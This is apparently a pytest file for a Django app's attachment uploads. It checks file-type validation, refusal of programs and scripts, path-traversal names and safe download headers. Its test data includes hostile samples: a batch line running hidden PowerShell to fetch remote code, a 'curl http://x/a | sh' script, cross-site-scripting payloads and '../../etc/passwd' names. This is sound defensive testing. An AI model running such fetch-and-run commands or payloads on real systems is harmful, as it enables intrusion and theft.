"""Directive attachments: what is accepted, what is refused, how files are stored and served.

A file is accepted when its bytes show one of the accepted kinds of document and its name
ends in that kind's extension; programs and scripts are refused by name and by content.
The name is kept only for display, and nobody outside the directive's readers may
download the file.
"""

import re
from pathlib import Path
from urllib.parse import quote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template.defaultfilters import filesizeformat
from django.urls import reverse
from django.utils import translation

from directives.models import DirectiveAttachment
from tests.files import (
    DOCX,
    ELF,
    EXE,
    GIF,
    JPEG,
    ODP,
    ODS,
    ODT,
    OLE_SIGNATURE,
    PDF,
    PPTX,
    WEBP,
    XLSX,
    docx_bytes,
    odf_bytes,
    ole_bytes,
    png_bytes,
    pptx_bytes,
    xlsx_bytes,
    zip_bytes,
)


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.UPLOAD_MAX_BYTES = 20 * 1024 * 1024
    return settings.MEDIA_ROOT


def stored_files(media):
    return [path for path in Path(media).rglob("*") if path.is_file()]


def upload(client, directive, name, content, **extra):
    return client.post(
        reverse("attachment_add", args=[directive.pk]),
        {"file": SimpleUploadedFile(name, content)},
        follow=True,
        **extra,
    )


def upload_raw_name(client, directive, name, content):
    """Post a file under a name the test client would otherwise strip of its folders."""
    boundary = "gqtrack-boundary"
    body = (
        (
            f"--{boundary}\r\n"
            f'Content-Disposition: form-data; name="file"; filename="{name}"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        ).encode()
        + content
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return client.post(
        reverse("attachment_add", args=[directive.pk]),
        body,
        content_type=f"multipart/form-data; boundary={boundary}",
        follow=True,
    )


def shown_messages(response):
    return [str(message) for message in response.context["messages"]]


def chinese(message, **params):
    with translation.override("zh-hans"):
        text = translation.gettext(message)
        return text % params if params else text


def download(client, attachment):
    response = client.get(
        reverse("attachment_download", args=[attachment.directive_id, attachment.pk])
    )
    if response.status_code == 200:
        # Reading to the end closes the file; the test client wraps that close so that it
        # leaves the test's database connection alone, which a second close() would not.
        return response, b"".join(response.streaming_content)
    return response, None


ACCEPTED = [
    ("关于学习贯彻的通知.pdf", PDF, "application/pdf"),
    ("学习现场.png", png_bytes(), "image/png"),
    ("学习心得.docx", docx_bytes(), DOCX),
    ("学习情况统计表.xlsx", xlsx_bytes(), XLSX),
    ("旧版通知.wps", ole_bytes(), "application/msword"),
]


@pytest.mark.parametrize(("name", "content", "content_type"), ACCEPTED)
def test_it_accepts_real_files_under_a_generated_name(
    login, people, edu_draft, media, name, content, content_type
):
    response = upload(login(people.edu), edu_draft, name, content)

    assert response.redirect_chain[-1][0] == reverse("directive_detail", args=[edu_draft.pk])
    assert shown_messages(response) == [chinese("The attachment was added.")]
    attachment = DirectiveAttachment.objects.get(directive=edu_draft)
    assert attachment.name == name
    assert attachment.content_type == content_type
    assert attachment.size == len(content)
    assert attachment.uploaded_by == people.edu
    stem = name.rsplit(".", 1)[0]
    assert stem not in attachment.file.name
    assert name not in attachment.file.name
    assert attachment.file.name.startswith("directives/")
    [stored] = stored_files(media)
    assert stored.read_bytes() == content
    assert stored == Path(media) / attachment.file.name


def test_it_accepts_attachments_on_an_issued_directive(login, people, edu_directive, media):
    upload(login(people.edu), edu_directive, "补充通知.pdf", PDF)

    assert edu_directive.attachments.get().content_type == "application/pdf"


def test_two_files_with_the_same_name_are_stored_apart(login, people, edu_draft, media):
    client = login(people.edu)
    upload(client, edu_draft, "通知.pdf", PDF)
    upload(client, edu_draft, "通知.pdf", PDF + b"% second\n")

    first, second = edu_draft.attachments.all()
    assert first.file.name != second.file.name
    assert len(stored_files(media)) == 2


ACCEPTED_KINDS = (
    "Accepted are PDF files, images (.jpg .jpeg .png .gif .webp), office documents from "
    "Word, Excel, PowerPoint, WPS or LibreOffice (.doc .docx .xls .xlsx .ppt .pptx .wps .et "
    ".dps .odt .ods .odp), plain text (.txt) and .zip archives."
)
NOT_A_TYPE = "This kind of file is not accepted. %(accepted)s"
NAME_REFUSED = "Files ending in .%(extension)s are not accepted. %(accepted)s"
NO_EXTENSION = "The file name must end in the extension of its kind, such as .pdf. %(accepted)s"
MISMATCH = (
    "The content of the file does not match its name ending in .%(extension)s; "
    "for this content the name must end in %(expected)s."
)
PROGRAMS_IN_ZIP = (
    "The archive contains programs or scripts (%(extensions)s), which are not accepted."
)


def refusal(message, **params):
    return chinese(message, accepted=chinese(ACCEPTED_KINDS), **params)


def assert_nothing_stored(media):
    assert not DirectiveAttachment.objects.exists()
    assert stored_files(media) == []


def photos_zip():
    return zip_bytes(
        {
            "活动照片/学习现场1.jpg": JPEG,
            "活动照片/学习现场2.png": png_bytes(),
            "活动照片/说明.txt": "九月二十四日集中学习。".encode(),
            "学习心得.docx": docx_bytes(),
        }
    )


OLE_EXTENSIONS = ".doc/.xls/.ppt/.wps/.et/.dps"
KINDS = [
    # (a right name, a wrong name, the bytes, the content type stored, the extensions asked for)
    pytest.param("通知.pdf", "通知.png", PDF, "application/pdf", ".pdf", id="pdf"),
    pytest.param("现场.jpg", "现场.png", JPEG, "image/jpeg", ".jpg/.jpeg", id="jpg"),
    pytest.param("现场.jpeg", "现场.gif", JPEG, "image/jpeg", ".jpg/.jpeg", id="jpeg"),
    pytest.param("现场.png", "现场.jpg", png_bytes(), "image/png", ".png", id="png"),
    pytest.param("现场.gif", "现场.webp", GIF, "image/gif", ".gif", id="gif"),
    pytest.param("现场.webp", "现场.jpg", WEBP, "image/webp", ".webp", id="webp"),
    pytest.param(
        "心得.doc",
        "心得.docx",
        ole_bytes("WordDocument"),
        "application/msword",
        OLE_EXTENSIONS,
        id="doc",
    ),
    pytest.param(
        "心得.wps",
        "心得.pdf",
        ole_bytes("WordDocument"),
        "application/msword",
        OLE_EXTENSIONS,
        id="wps",
    ),
    pytest.param(
        "统计表.xls",
        "统计表.xlsx",
        ole_bytes("Workbook"),
        "application/vnd.ms-excel",
        OLE_EXTENSIONS,
        id="xls",
    ),
    pytest.param(
        "统计表.et",
        "统计表.txt",
        ole_bytes("Workbook"),
        "application/vnd.ms-excel",
        OLE_EXTENSIONS,
        id="et",
    ),
    pytest.param(
        "汇报.ppt",
        "汇报.pptx",
        ole_bytes("PowerPoint Document"),
        "application/vnd.ms-powerpoint",
        OLE_EXTENSIONS,
        id="ppt",
    ),
    pytest.param(
        "汇报.dps",
        "汇报.zip",
        ole_bytes("PowerPoint Document"),
        "application/vnd.ms-powerpoint",
        OLE_EXTENSIONS,
        id="dps",
    ),
    pytest.param("心得.docx", "心得.zip", docx_bytes(), DOCX, ".docx", id="docx"),
    pytest.param("统计表.xlsx", "统计表.xls", xlsx_bytes(), XLSX, ".xlsx", id="xlsx"),
    pytest.param("汇报.pptx", "汇报.ppt", pptx_bytes(), PPTX, ".pptx", id="pptx"),
    pytest.param("心得.odt", "心得.docx", odf_bytes(ODT), ODT, ".odt", id="odt"),
    pytest.param("统计表.ods", "统计表.xlsx", odf_bytes(ODS), ODS, ".ods", id="ods"),
    pytest.param("汇报.odp", "汇报.pptx", odf_bytes(ODP), ODP, ".odp", id="odp"),
    pytest.param(
        "说明.txt",
        "说明.doc",
        "学习贯彻会议精神的情况说明。\r\n".encode(),
        "text/plain",
        ".txt",
        id="txt-utf8",
    ),
    pytest.param(
        "说明.txt",
        "说明.pdf",
        "\ufeff情况说明\n".encode(),
        "text/plain",
        ".txt",
        id="txt-utf8-bom",
    ),
    pytest.param(
        "说明.txt",
        "说明.doc",
        "学习贯彻会议精神\t320人\n".encode("gbk"),
        "text/plain",
        ".txt",
        id="txt-gbk",
    ),
    pytest.param(
        "活动照片.zip", "活动照片.docx", photos_zip(), "application/zip", ".zip", id="zip"
    ),
    pytest.param("扫描件.PDF", "扫描件.Png", PDF, "application/pdf", ".pdf", id="upper-case"),
]


@pytest.mark.parametrize(("name", "wrong_name", "content", "content_type", "expected"), KINDS)
def test_each_kind_is_accepted_under_its_own_extension_only(
    login, people, edu_draft, media, name, wrong_name, content, content_type, expected
):
    client = login(people.edu)

    refused = upload(client, edu_draft, wrong_name, content)

    wrong_extension = wrong_name.rsplit(".", 1)[1].lower()
    assert shown_messages(refused) == [
        refusal(MISMATCH, extension=wrong_extension, expected=expected)
    ]
    assert_nothing_stored(media)

    accepted = upload(client, edu_draft, name, content)

    assert shown_messages(accepted) == [chinese("The attachment was added.")]
    attachment = DirectiveAttachment.objects.get(directive=edu_draft)
    assert (attachment.name, attachment.content_type) == (name, content_type)
    assert [path.read_bytes() for path in stored_files(media)] == [content]


# What an outside probe got stored; each is refused and leaves nothing behind.
OLE_SCRIPT = OLE_SIGNATURE + b"\r\n@echo off\r\npowershell -w hidden -c iwr http://x/a\r\n" * 40
PROBES = [
    pytest.param("run.bat", OLE_SCRIPT, "bat", id="ole-header-batch-script"),
    pytest.param(
        "学习材料.hta",
        OLE_SIGNATURE + b"<html><hta:application/><script>new ActiveXObject('x')</script>",
        "hta",
        id="hta",
    ),
    pytest.param(
        "tool.jar",
        zip_bytes(
            {
                "[Content_Types].xml": "<Types/>",
                "word/document.xml": "<w:document/>",
                "META-INF/MANIFEST.MF": "Main-Class: Tool\n",
                "Tool.class": b"\xca\xfe\xba\xbe",
            }
        ),
        "jar",
        id="office-zip-named-jar",
    ),
    pytest.param("学习现场.html", png_bytes(), "html", id="png-named-html"),
    pytest.param("通知.html", PDF, "html", id="pdf-named-html"),
]


@pytest.mark.parametrize(("name", "content", "extension"), PROBES)
def test_what_the_outside_probe_stored_is_refused(
    login, people, edu_draft, media, name, content, extension
):
    response = upload(login(people.edu), edu_draft, name, content)

    assert response.status_code == 200
    assert shown_messages(response) == [refusal(NAME_REFUSED, extension=extension)]
    assert_nothing_stored(media)


PROGRAM_EXTENSIONS = [
    *("exe", "bat", "cmd", "com", "scr", "ps1", "vbs", "js", "jar"),
    *("hta", "html", "htm", "svg", "msi", "sh", "dll", "lnk"),
]


def test_programs_and_scripts_are_refused_by_name_whatever_they_hold(
    login, people, edu_draft, media
):
    client = login(people.edu)
    names = [(f"学习材料.{ext}", ext) for ext in PROGRAM_EXTENSIONS] + [
        ("学习材料.pdf.exe", "exe"),
        ("学习材料.docx.JS", "js"),
        ("RUN.BAT", "bat"),
        ("学习材料.bat.", "bat"),
        ("学习材料.cmd. . ", "cmd"),
    ]

    for name, extension in names:
        response = upload(client, edu_draft, name, PDF)

        assert shown_messages(response) == [refusal(NAME_REFUSED, extension=extension)], name
    assert_nothing_stored(media)


def test_a_name_without_an_extension_is_refused(login, people, edu_draft, media):
    response = upload(login(people.edu), edu_draft, "学习材料", PDF)

    assert shown_messages(response) == [refusal(NO_EXTENSION)]
    assert_nothing_stored(media)


REFUSED = [
    pytest.param(
        "photo.jpg",
        b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        id="html-named-jpg",
    ),
    pytest.param(
        "logo.png",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b'<rect width="10" height="10"/></svg>',
        id="svg-named-png",
    ),
    pytest.param("工具.txt", EXE, id="windows-program-named-txt"),
    pytest.param("工具.pdf", ELF, id="linux-program-named-pdf"),
    pytest.param("说明.txt", b"#!/bin/sh\ncurl http://x/a | sh\n", id="shell-script-named-txt"),
    pytest.param(
        "说明.txt",
        "\ufeff\r\n  <HTML><body onload=alert(1)>学习</body></HTML>".encode(),
        id="html-named-txt",
    ),
    pytest.param(
        "说明.txt",
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'.encode("gbk"),
        id="svg-named-txt",
    ),
    pytest.param("说明.txt", b"<script>alert(1)</script>", id="script-named-txt"),
    pytest.param("说明.txt", "学习\x1b[31m贯彻\x07".encode(), id="control-characters"),
    pytest.param("说明.txt", "学习贯彻".encode("utf-16"), id="nul-bytes"),
    pytest.param("学习材料.doc", OLE_SCRIPT, id="ole-header-batch-script-named-doc"),
    pytest.param("学习材料.doc", ole_bytes("Payload"), id="ole-not-an-office-document"),
    pytest.param("学习现场.png", b"BM" + bytes(60), id="bitmap-named-png"),
]


@pytest.mark.parametrize(("name", "content"), REFUSED)
def test_it_refuses_files_of_a_kind_it_does_not_accept(
    login, people, edu_draft, media, name, content
):
    response = upload(login(people.edu), edu_draft, name, content)

    assert response.status_code == 200
    assert shown_messages(response) == [refusal(NOT_A_TYPE)]
    assert_nothing_stored(media)


@pytest.mark.parametrize(
    ("members", "extensions"),
    [
        ({"活动照片/现场.jpg": JPEG, "活动照片/安装.exe": EXE}, ".exe"),
        ({"run.BAT": b"@echo off", "js/tool.js": b"x", "说明.txt": b"ok"}, ".bat .js"),
        ({"照片/打开.hta ": b"<html>", "照片/现场.jpg": JPEG}, ".hta"),
    ],
)
def test_a_zip_holding_programs_or_scripts_is_refused(
    login, people, edu_draft, media, members, extensions
):
    response = upload(login(people.edu), edu_draft, "活动照片.zip", zip_bytes(members))

    assert shown_messages(response) == [chinese(PROGRAMS_IN_ZIP, extensions=extensions)]
    assert_nothing_stored(media)


def test_the_file_input_offers_the_accepted_extensions(login, people, edu_draft):
    page = login(people.edu).get(reverse("directive_detail", args=[edu_draft.pk])).content
    [accept] = re.findall(r'type="file" name="file" accept="([^"]*)"', page.decode())

    assert accept == (
        ".pdf,.jpg,.jpeg,.png,.gif,.webp,.doc,.xls,.ppt,.wps,.et,.dps,"
        ".docx,.xlsx,.pptx,.odt,.ods,.odp,.txt,.zip"
    )


def test_it_refuses_an_empty_file(login, people, edu_draft, media):
    response = upload(login(people.edu), edu_draft, "空文件.pdf", b"")

    # Django's FileField refuses it before our own check runs, in Django's translation.
    assert shown_messages(response) == [chinese("The submitted file is empty.")]
    assert not DirectiveAttachment.objects.exists()
    assert stored_files(media) == []


def test_it_refuses_a_file_larger_than_the_limit(login, people, edu_draft, media, settings):
    settings.UPLOAD_MAX_BYTES = 1000
    content = PDF + b"%" + b"x" * 2000 + b"\n"

    response = upload(login(people.edu), edu_draft, "大文件.pdf", content)

    with translation.override("zh-hans"):
        expected = chinese(
            "The file is %(size)s; files may be at most %(limit)s.",
            size=filesizeformat(len(content)),
            limit=filesizeformat(1000),
        )
    assert shown_messages(response) == [expected]
    assert not DirectiveAttachment.objects.exists()
    assert stored_files(media) == []


def test_a_file_exactly_at_the_limit_is_accepted(login, people, edu_draft, media, settings):
    settings.UPLOAD_MAX_BYTES = len(PDF)

    upload(login(people.edu), edu_draft, "刚好.pdf", PDF)

    assert edu_draft.attachments.count() == 1


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd/学习心得.pdf",
        "..\\..\\windows\\system32\\学习心得.pdf",
        "C:\\Users\\工会\\Desktop\\学习心得.pdf",
    ],
)
def test_folders_in_the_uploaded_name_are_dropped(login, people, edu_draft, media, name):
    upload_raw_name(login(people.edu), edu_draft, name, PDF)

    attachment = edu_draft.attachments.get()
    assert attachment.name == "学习心得.pdf"
    assert ".." not in attachment.file.name
    assert "学习心得" not in attachment.file.name
    [stored] = stored_files(media)
    assert stored.resolve().is_relative_to((Path(media) / "directives").resolve())


def test_a_very_long_name_is_shortened_keeping_its_extension(login, people, edu_draft, media):
    name = "关于学习贯彻" * 60 + ".pdf"

    upload(login(people.edu), edu_draft, name, PDF)

    attachment = edu_draft.attachments.get()
    assert len(attachment.name) == 255
    assert attachment.name.endswith(".pdf")
    assert attachment.name.startswith("关于学习贯彻关于学习贯彻")
    assert len(attachment.file.name) <= 200


# --- Downloads -------------------------------------------------------------------------


@pytest.fixture
def attachments(login, people, edu_directive, media):
    client = login(people.edu)
    upload(client, edu_directive, "关于学习贯彻的通知.pdf", PDF)
    upload(client, edu_directive, "学习现场.png", png_bytes())
    upload(client, edu_directive, "学习心得.docx", docx_bytes())
    client.logout()
    by_type = {a.content_type: a for a in edu_directive.attachments.all()}
    return {"pdf": by_type["application/pdf"], "png": by_type["image/png"], "docx": by_type[DOCX]}


@pytest.mark.parametrize(
    ("kind", "content_type", "content"),
    [("pdf", "application/pdf", PDF), ("png", "image/png", png_bytes())],
)
def test_pdf_and_images_are_shown_inline(login, people, attachments, kind, content_type, content):
    attachment = attachments[kind]

    response, body = download(login(people.sdu_staff), attachment)

    assert response.status_code == 200
    assert body == content
    assert response["Content-Type"] == content_type
    assert response["X-Content-Type-Options"] == "nosniff"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("inline;")
    assert f"filename*=utf-8''{quote(attachment.name)}" in disposition


def test_office_documents_are_downloaded_never_shown(login, people, attachments):
    attachment = attachments["docx"]

    response, body = download(login(people.edu), attachment)

    assert response.status_code == 200
    assert body == docx_bytes()
    assert response["Content-Type"] == "application/octet-stream"
    assert response["X-Content-Type-Options"] == "nosniff"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"filename*=utf-8''{quote('学习心得.docx')}" in disposition


def test_every_kind_but_images_and_pdf_is_downloaded_never_shown(
    login, people, edu_directive, media
):
    client = login(people.edu)
    files = {
        "说明.txt": "学习贯彻会议精神<script>alert(1)</script>\n".encode(),
        "活动照片.zip": photos_zip(),
        "心得.doc": ole_bytes("WordDocument"),
        "心得.wps": ole_bytes("WordDocument"),
        "统计表.et": ole_bytes("Workbook"),
        "汇报.dps": ole_bytes("PowerPoint Document"),
        "汇报.pptx": pptx_bytes(),
        "心得.odt": odf_bytes(ODT),
        "汇报.odp": odf_bytes(ODP),
    }
    for name, content in files.items():
        upload(client, edu_directive, name, content)

    attachments = edu_directive.attachments.all()
    assert sorted(a.name for a in attachments) == sorted(files)
    reader = login(people.sdu_staff)
    for attachment in attachments:
        response, body = download(reader, attachment)

        assert body == files[attachment.name]
        assert response["Content-Type"] == "application/octet-stream"
        assert response["X-Content-Type-Options"] == "nosniff"
        disposition = response["Content-Disposition"]
        assert disposition.startswith("attachment;"), attachment.name
        assert f"filename*=utf-8''{quote(attachment.name)}" in disposition


def test_an_attachment_is_only_found_through_its_own_directive(
    login, people, attachments, edu_draft
):
    url = reverse("attachment_download", args=[edu_draft.pk, attachments["pdf"].pk])

    response = login(people.edu).get(url)

    assert response.status_code == 404


# --- Removing (who may add and remove is in tests/test_permission_matrix.py) ---------


def test_the_issuer_removes_an_attachment_of_a_draft(login, people, edu_draft, media):
    client = login(people.edu)
    upload(client, edu_draft, "通知.pdf", PDF)
    attachment = edu_draft.attachments.get()

    response = client.post(
        reverse("attachment_delete", args=[edu_draft.pk, attachment.pk]), follow=True
    )

    assert response.redirect_chain[-1][0] == reverse("directive_detail", args=[edu_draft.pk])
    assert shown_messages(response) == [chinese("The attachment was removed.")]
    assert not DirectiveAttachment.objects.exists()
    assert stored_files(media) == []
